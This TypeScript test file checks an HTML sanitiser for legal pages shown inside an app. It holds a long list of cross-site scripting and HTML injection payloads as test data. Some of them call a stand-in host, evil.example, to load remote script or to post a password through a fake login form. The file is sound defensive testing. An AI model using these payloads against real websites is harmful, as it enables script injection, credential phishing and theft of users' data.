// @vitest-environment jsdom
import { describe, expect, test } from "vitest";
import { sanitiseLegalPage } from "./sanitise-legal-page.ts";

const PAGE = "http://localhost:3000/static/terms.html";

/** What becomes of the inside of `<main>`, in an element that the page can hold. */
function sanitise(main: string): HTMLElement {
  const text = sanitiseLegalPage(`<!doctype html><body><main>${main}</main></body>`, PAGE);
  const host = document.createElement("div");
  host.append(text);
  return host;
}

const HARMLESS_TAGS = new Set(
  "SECTION H3 H4 P BR UL OL LI DL DT DD BLOCKQUOTE A STRONG EM B I TIME TABLE CAPTION THEAD TBODY TR TH TD".split(
    " ",
  ),
);
const HARMLESS_ATTRIBUTES = new Set("href target rel scope colspan rowspan datetime".split(" "));

const HOSTILE = [
  "<script>alert(1)</script>",
  "<script src='https://evil.example/x.js'></script>",
  "<SCRIPT\n>alert(1)</SCRIPT >",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img src='https://evil.example/pixel.png'>",
  "<picture><source srcset=https://evil.example/x><img></picture>",
  "<p onclick=alert(1)>p</p>",
  "<p onpointerenter='alert(1)' tabindex=0 autofocus onfocus=alert(1)>p</p>",
  "<a href='javascript:alert(1)'>a</a>",
  "<a href='JaVaScRiPt:alert(1)'>a</a>",
  "<a href='java\tscript:alert(1)'>a</a>",
  "<a href='&#106;avascript&colon;alert(1)'>a</a>",
  "<a href=' \u0001javascript:alert(1)'>a</a>",
  "<a href='vbscript:msgbox(1)'>a</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
  "<a href='blob:http://localhost:3000/x'>a</a>",
  "<a href='file:///etc/passwd'>a</a>",
  "<a href='http://evil.example'>a</a>",
  "<a href='//evil.example/x'>a</a>",
  "<a href='tel:+441234'>a</a>",
  "<a href='https://example.org' ping='https://evil.example' download>a</a>",
  "<a href='https://example.org' target=_top rel=opener>a</a>",
  "<a xlink:href='javascript:alert(1)'>a</a>",
  "<style>body{display:none}</style>",
  "<p style='position:fixed;inset:0'>p</p>",
  "<p class='window'>p</p>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href='https://evil.example/'>",
  "<title>Other</title>",
  "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>t</text></a></svg>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
  "<math><mi xlink:href='data:x,<script>alert(1)</script>'>m</mi></math>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
  "<iframe src='https://evil.example'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='https://evil.example'></object>",
  "<embed src='https://evil.example'>",
  "<video src=x onerror=alert(1)><source src=x></video>",
  "<audio src=x autoplay></audio>",
  "<form action='https://evil.example'><input name=password type=password><button>Log in</button></form>",
  "<form><p>p</p><button formaction='javascript:alert(1)'>b</button></form>",
  "<textarea></textarea><select><option>o</option></select>",
  "<details ontoggle=alert(1) open><summary>s</summary>d</details>",
  "<dialog open>d</dialog>",
  "<p id=root>p</p>",
  "<a name=getElementById href='https://example.org'>a</a>",
  "<form id=attributes><input name=attributes></form>",
  "<template><script>alert(1)</script></template>",
  "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<x-evil is=x-evil data-x=1 aria-label=l>x</x-evil>",
  "<p data-bind='alert(1)' aria-hidden=true role=alert slot=x part=y>p</p>",
  "<marquee onstart=alert(1)>m</marquee>",
  "<isindex type=image src=1 onerror=alert(1)>",
  "<p><!-- --!><img src=x onerror=alert(1)> --></p>",
  "<plaintext>alert(1)",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
  "<table background='javascript:alert(1)'><tr><td background=x bgcolor=red>c</td></tr></table>",
] as const;

describe("a legal page that somebody tampered with", () => {
  test.each(HOSTILE)("is harmless: %s", (payload) => {
    const host = sanitise(`<p>before</p>${payload}<p>after</p>`);
    expect(host.textContent).toContain("before");
    for (const element of host.querySelectorAll("*")) {
      expect(HARMLESS_TAGS).toContain(element.tagName);
      for (const { name } of element.attributes) expect(HARMLESS_ATTRIBUTES).toContain(name);
      expect(element.namespaceURI).toBe("http://www.w3.org/1999/xhtml");
    }
    for (const link of host.querySelectorAll("a")) {
      expect(link.getAttribute("href")).toMatch(
        /^(?:https:\/\/example\.org|mailto:|http:\/\/localhost:3000)/,
      );
      expect(link.rel).toBe("noopener noreferrer");
    }
  });

  test("keeps the words of what it does not let through", () => {
    const host = sanitise("<form><p>one</p></form><a href='javascript:alert(1)'>two</a>");
    expect(host.innerHTML).toBe("<p>one</p>two");
  });

  test("gives no text from outside its main part", () => {
    const page = "<header>no</header><main><p>yes</p></main><footer>no</footer>";
    expect(sanitiseLegalPage(page, PAGE).textContent).toBe("yes");
  });

  test.each([
    ["", ""],
    ["<h1>Not found</h1><p>No such page.</p>", "No such page."],
    ["<html><head><title>T</title></head><body><p>Down.<script>x()</script></p></body>", "Down."],
    ['{"error":"x"}', '{"error":"x"}'],
    ["<!-- <main> -->", ""],
  ])("of which nothing is the main part is shown whole: %j", (page, text) => {
    expect(sanitiseLegalPage(page, PAGE).textContent).toBe(text);
  });
});

describe("a legal page as it should be", () => {
  test("keeps paragraphs, lists and emphasis", () => {
    const text = "<p>One <strong>two</strong> <em>three</em></p><ul><li>four</li></ul>";
    expect(sanitise(text).innerHTML).toBe(text);
  });

  test("keeps tables with their heads", () => {
    const table =
      '<table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2">b</td></tr></tbody></table>';
    expect(sanitise(table).innerHTML).toBe(table);
  });

  test("leaves its title to the window and lowers its other headings", () => {
    const host = sanitise("<h1>Terms</h1><h2>One <em>a</em></h2><h3>Two</h3>");
    expect(host.innerHTML).toBe("<h3>One <em>a</em></h3><h4>Two</h4>");
  });

  test.each([
    ["./privacy.html", "http://localhost:3000/static/privacy.html"],
    ["../", "http://localhost:3000/"],
    ["/x", "http://localhost:3000/x"],
    ["https://stripe.com/privacy", "https://stripe.com/privacy"],
  ])("opens %s beside the app", (href, target) => {
    const link = sanitise(`<a href="${href}">a</a>`).querySelector("a");
    expect(link?.getAttribute("href")).toBe(target);
    expect(link?.target).toBe("_blank");
    expect(link?.rel).toBe("noopener noreferrer");
  });

  test("writes to a mailbox from where one is", () => {
    const link = sanitise('<a href="mailto:a@example.org">a</a>').querySelector("a");
    expect(link?.getAttribute("href")).toBe("mailto:a@example.org");
    expect(link?.hasAttribute("target")).toBe(false);
  });

  test("has no links into itself: nothing there has a name", () => {
    expect(sanitise('<a href="#one">a</a> <a>b</a>').innerHTML).toBe("a b");
  });
});
